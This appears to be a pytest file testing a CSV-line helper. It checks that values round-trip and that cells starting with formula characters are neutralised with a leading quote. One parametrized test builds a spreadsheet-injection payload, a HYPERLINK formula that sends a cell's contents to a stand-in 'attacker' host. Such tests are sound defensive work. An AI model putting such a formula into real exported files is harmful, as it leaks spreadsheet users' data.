"""Lines of CSV: what a program reads back, and what no spreadsheet computes."""

from __future__ import annotations

import csv
from typing import Any

import pytest

from jobmaster.csv_text import csv_line


def test_values_are_read_back_whatever_is_in_them() -> None:
    values: list[Any] = ["a,b", 'say "x"', "two\nlines", "", None, -5, 2.5, True, {"a": [1]}, [], ("x",)]
    (read,) = csv.reader([csv_line(values)])
    assert read == ["a,b", 'say "x"', "two\nlines", "", "", "-5", "2.5", "True", '{"a":[1]}', "", '["x"]']
    assert csv_line(["a"]).endswith("a\r\n")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_text_is_a_formula(start: str) -> None:
    text = f'{start}HYPERLINK("http://attacker/"&A1)'
    (read,) = csv.reader([csv_line([text, f"a{start}"])])
    assert read == [f"'{text}", f"a{start}"]
